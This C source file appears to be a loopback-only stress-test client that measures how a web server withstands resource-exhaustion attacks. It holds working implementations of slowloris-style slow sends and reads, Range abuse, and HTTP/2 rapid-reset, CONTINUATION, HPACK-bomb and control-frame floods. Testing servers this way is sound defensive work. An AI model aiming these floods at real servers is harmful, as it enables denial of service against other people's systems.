// Clients that cost a server as much as they can, until they are killed.
//
//     attack PORT MODE CONNECTIONS
//
// The modes are in kModes. All connections are kept as busy as the mode says, and made anew when the server ends
// one. The last line that is written tells how many connections were made, and how many the server has ended.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { kConnectionsMax = 4096, kBytesMax = 1 << 20, kDiscard = 1 << 20, kFrameHead = 9, kAtOnce = 100 };
enum { kData, kHeaders, kPriority, kReset, kSettings, kPush, kPing, kGoaway, kWindow, kContinuation, kUnknown = 0x42 };

typedef struct {
  int fd;
  size_t begun;      // of the first bytes
  size_t at;         // of the bytes that are sent again and again
  size_t size;       // of them
  uint32_t stream;   // of HTTP/2, the next one
  char* bytes;
} Client;

typedef struct {
  const char* name;
  const char* first;      // sent once
  size_t first_size;
  const char* again;      // sent again and again; NULL: nothing, or what `make` makes
  size_t (*make)(char* to, uint32_t* stream);
  int every_ms;           // one byte of `again` on each connection; 0: as fast as the server takes it
  int read_ms;            // one byte is read so often; 0: all at once, -1: nothing
} Mode;

static char* put_head(char* to, size_t size, int type, int flags, uint32_t stream) {
  const unsigned char head[kFrameHead] = {
      (unsigned char)(size >> 16),   (unsigned char)(size >> 8),    (unsigned char)size,
      (unsigned char)type,           (unsigned char)flags,          (unsigned char)(stream >> 24),
      (unsigned char)(stream >> 16), (unsigned char)(stream >> 8), (unsigned char)stream};
  memcpy(to, head, kFrameHead);
  return to + kFrameHead;
}

static char* put_frame(char* to, int type, int flags, uint32_t stream, const void* content, size_t size) {
  to = put_head(to, size, type, flags, stream);
  memcpy(to, content, size);
  return to + size;
}

// GET http://a/1k.bin, by the static table.
static const char kBlock[] = "\x82\x86\x04\x07/1k.bin\x01\x01" "a";

static size_t many(char* to, int type, int flags, const void* content, size_t size) {
  char* end = to;
  for (int i = 0; i < kAtOnce; ++i) end = put_frame(end, type, flags, 0, content, size);
  return (size_t)(end - to);
}

static size_t make_resets(char* to, uint32_t* stream) {
  char* end = to;
  for (int i = 0; i < kAtOnce; ++i, *stream += 2) {
    end = put_frame(end, kHeaders, 5, *stream, kBlock, sizeof(kBlock) - 1);
    end = put_frame(end, kReset, 0, *stream, "\0\0\0\x08", 4);
  }
  return (size_t)(end - to);
}
static size_t make_pings(char* to, uint32_t* stream) {
  (void)stream;
  return many(to, kPing, 0, "01234567", 8);
}
static size_t make_settings(char* to, uint32_t* stream) {
  (void)stream;
  return many(to, kSettings, 0, "", 0);
}
static size_t make_unknown(char* to, uint32_t* stream) {
  (void)stream;
  return many(to, kUnknown, 0, "01234567", 8);
}
static size_t make_priorities(char* to, uint32_t* stream) {
  char* end = to;
  for (int i = 0; i < kAtOnce; ++i) end = put_frame(end, kPriority, 0, *stream + 2 * (uint32_t)i, "\0\0\0\0\x10", 5);
  return (size_t)(end - to);
}
// PRIORITY_UPDATE (RFC 9218 section 7.1).
static size_t make_updates(char* to, uint32_t* stream) {
  (void)stream;
  return many(to, 0x10, 0, "\0\0\0\x01u=1", 7);
}
// A block that never ends.
static size_t make_continuations(char* to, uint32_t* stream) {
  char field[] = "\x40\x03" "abc\x40" "0123456789012345678901234567890123456789012345678901234567890123";
  char* end = to;
  if (*stream == 1) end = put_frame(end, kHeaders, 1, *stream, kBlock, sizeof(kBlock) - 1);
  *stream = 3;
  for (int i = 0; i < kAtOnce; ++i) end = put_frame(end, kContinuation, 0, 1, field, sizeof(field) - 1);
  return (size_t)(end - to);
}
// One field of 4 KB in the dynamic table, and a thousand references to it in each request.
static size_t make_bombs(char* to, uint32_t* stream) {
  enum { kValue = 3900, kTimes = 1000 };
  static char block[kValue + kTimes + 64];
  char* put = block;
  memcpy(put, kBlock, sizeof(kBlock) - 1);
  put += sizeof(kBlock) - 1;
  if (*stream == 1) {
    // A literal field "a" whose length has seven bits and more.
    memcpy(put, "\x40\x01" "a\x7f", 4);
    const unsigned rest = kValue - 127;
    put[4] = (char)(0x80 | (rest & 0x7f));
    put[5] = (char)(rest >> 7);
    memset(put + 6, 'x', kValue);
    put += 6 + kValue;
  }
  memset(put, 0xbe, kTimes);  // the newest entry of the dynamic table
  put += kTimes;
  char* end = put_frame(to, kHeaders, 5, *stream, block, (size_t)(put - block));
  *stream += 2;
  return (size_t)(end - to);
}

#define GET "GET /1k.bin HTTP/1.1\r\nHost: a\r\n"
#define TEN(text) text text text text text text text text text text
#define PREFACE "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0"
#define TEXT(text) text, sizeof(text) - 1
// A stream whose window has one byte.
#define SHUT "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\x06\x04\0\0\0\0\0\0\x04\0\0\0\x01" \
  "\0\0\x10\x01\x05\0\0\0\x01\x82\x86\x04\x09/slow.bin\x01\x01" "a"

static const Mode kModes[] = {
    {"headers", TEXT(GET), "X-a: b\r\n", NULL, 1000, 0},
    {"bodies", TEXT("POST /1k.bin HTTP/1.1\r\nHost: a\r\nContent-Length: 200000\r\n\r\n"), "x", NULL, 1000, 0},
    {"readers", TEXT("GET /slow.bin HTTP/1.1\r\nHost: a\r\n\r\n"), NULL, NULL, 0, 500},
    {"pipelines", TEXT(""), TEN(TEN(GET "\r\n")), NULL, 0, -1},
    {"connects", TEXT(""), NULL, NULL, 0, -1},
    {"ranges", TEXT(""), GET "Range: bytes=" TEN(TEN("0-,")) "0-1\r\n\r\n", NULL, 0, 0},
    {"h2-resets", TEXT(PREFACE), NULL, make_resets, 0, 0},
    {"h2-pings", TEXT(PREFACE), NULL, make_pings, 0, 0},
    {"h2-settings", TEXT(PREFACE), NULL, make_settings, 0, 0},
    {"h2-unknown", TEXT(PREFACE), NULL, make_unknown, 0, 0},
    {"h2-priorities", TEXT(PREFACE), NULL, make_priorities, 0, 0},
    {"h2-updates", TEXT(PREFACE), NULL, make_updates, 0, 0},
    {"h2-continuations", TEXT(PREFACE), NULL, make_continuations, 0, 0},
    {"h2-bombs", TEXT(PREFACE), NULL, make_bombs, 0, 0},
    {"h2-windows", TEXT(SHUT), "\0\0\x04\x08\0\0\0\0\x01\0\0\0\x01", NULL, 1000, 0},
};

static const Mode* mode;
static Client clients[kConnectionsMax];
static struct sockaddr_in address = {.sin_family = AF_INET};
static int epoll;
static long made, ended;
static volatile sig_atomic_t stopped;

static void stop(int number) {
  (void)number;
  stopped = 1;
}

static long now_ms(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec * 1000 + time.tv_nsec / 1000000;
}

// Loops and paces need no edge: level-triggered where it is as fast as it can be, and by the clock otherwise.
static void begin(Client* client) {
  const int on = 1, little = 4096;
  client->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  if (client->fd < 0) return;
  if (mode->read_ms != 0) setsockopt(client->fd, SOL_SOCKET, SO_RCVBUF, &little, sizeof(little));
  setsockopt(client->fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
  client->begun = client->at = client->size = 0;
  client->stream = 1;
  connect(client->fd, (struct sockaddr*)&address, sizeof(address));
  struct epoll_event event = {.events = EPOLLOUT | EPOLLRDHUP, .data.ptr = client};
  if (mode->read_ms == 0) event.events |= EPOLLIN;
  epoll_ctl(epoll, EPOLL_CTL_ADD, client->fd, &event);
  ++made;
}

static void end(Client* client) {
  ++ended;
  close(client->fd);
  client->fd = -1;
}

// False when the connection has ended.
static bool send_all(Client* client, const char* bytes, size_t size, size_t* at) {
  while (*at < size) {
    const ssize_t sent = send(client->fd, bytes + *at, size - *at, MSG_NOSIGNAL);
    if (sent < 0) return errno == EAGAIN || errno == ENOTCONN;
    *at += (size_t)sent;
  }
  return true;
}

static size_t again_size(void) {
  return mode->make == NULL && mode->every_ms > 0 && memchr(mode->again, 0, 1) != NULL ? 13 : strlen(mode->again);
}

static bool flood(Client* client) {
  if (client->begun < mode->first_size) {
    if (!send_all(client, mode->first, mode->first_size, &client->begun)) return false;
    if (client->begun < mode->first_size) return true;
  }
  if (mode->every_ms > 0 || (mode->again == NULL && mode->make == NULL)) {
    struct epoll_event event = {.events = EPOLLRDHUP | (mode->read_ms == 0 ? EPOLLIN : 0), .data.ptr = client};
    epoll_ctl(epoll, EPOLL_CTL_MOD, client->fd, &event);
    return strcmp(mode->name, "connects") != 0;
  }
  if (client->at == client->size) {
    client->at = 0;
    client->size = mode->make != NULL ? mode->make(client->bytes, &client->stream) : strlen(mode->again);
    if (mode->make == NULL) memcpy(client->bytes, mode->again, client->size);
  }
  return send_all(client, client->bytes, client->size, &client->at);
}

static bool discard(Client* client) {
  const ssize_t got = recv(client->fd, NULL, kDiscard, MSG_TRUNC);
  return got > 0 || (got < 0 && (errno == EAGAIN || errno == ENOTCONN));
}

// What is due by the clock: a byte to send, a byte to read, or a connection to be made anew.
static void tick(int count, long at_ms) {
  static long sent_ms, read_ms;
  const bool sends = mode->every_ms > 0 && at_ms - sent_ms >= mode->every_ms;
  const bool reads = mode->read_ms > 0 && at_ms - read_ms >= mode->read_ms;
  if (sends) sent_ms = at_ms;
  if (reads) read_ms = at_ms;
  for (int i = 0; i < count; ++i) {
    Client* client = &clients[i];
    if (client->fd < 0) begin(client);
    char byte;
    if (sends && client->begun == mode->first_size) {
      const size_t size = again_size();
      // A frame is sent whole.
      const size_t part = mode->again[0] == 0 ? size : 1;
      if (send(client->fd, mode->again + client->at % size, part, MSG_NOSIGNAL) < 0 && errno != EAGAIN) {
        end(client);
        continue;
      }
      client->at = (client->at + part) % size;
    }
    if (reads && recv(client->fd, &byte, 1, 0) == 0) end(client);
  }
}

int main(int count, char** arguments) {
  if (count != 4) return 1;
  address.sin_port = htons((unsigned short)atoi(arguments[1]));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  for (size_t i = 0; i < sizeof(kModes) / sizeof(kModes[0]); ++i) {
    if (strcmp(kModes[i].name, arguments[2]) == 0) mode = &kModes[i];
  }
  const int connections = atoi(arguments[3]);
  if (mode == NULL || connections > kConnectionsMax) return 1;
  signal(SIGTERM, stop);
  epoll = epoll_create1(0);
  for (int i = 0; i < connections; ++i) {
    clients[i].fd = -1;
    clients[i].bytes = malloc(1 << 16);
  }
  long ticked_ms = 0;
  while (!stopped) {
    struct epoll_event events[64];
    const long at_ms = now_ms();
    if (at_ms - ticked_ms >= 10) tick(connections, ticked_ms = at_ms);
    const int ready = epoll_wait(epoll, events, 64, 10);
    for (int i = 0; i < ready; ++i) {
      Client* client = events[i].data.ptr;
      if (client->fd < 0) continue;
      bool lives = (events[i].events & (EPOLLERR | EPOLLHUP)) == 0;
      if (lives && (events[i].events & (EPOLLIN | EPOLLRDHUP)) != 0)
        lives = mode->read_ms == 0 ? discard(client) : (events[i].events & EPOLLRDHUP) == 0;
      if (lives && (events[i].events & EPOLLOUT) != 0) lives = flood(client);
      if (!lives) {
        end(client);
        if (mode->read_ms == 0 || strcmp(mode->name, "connects") == 0) begin(client);
      }
    }
  }
  printf("FIGURES %ld %ld\n", made, ended);
}
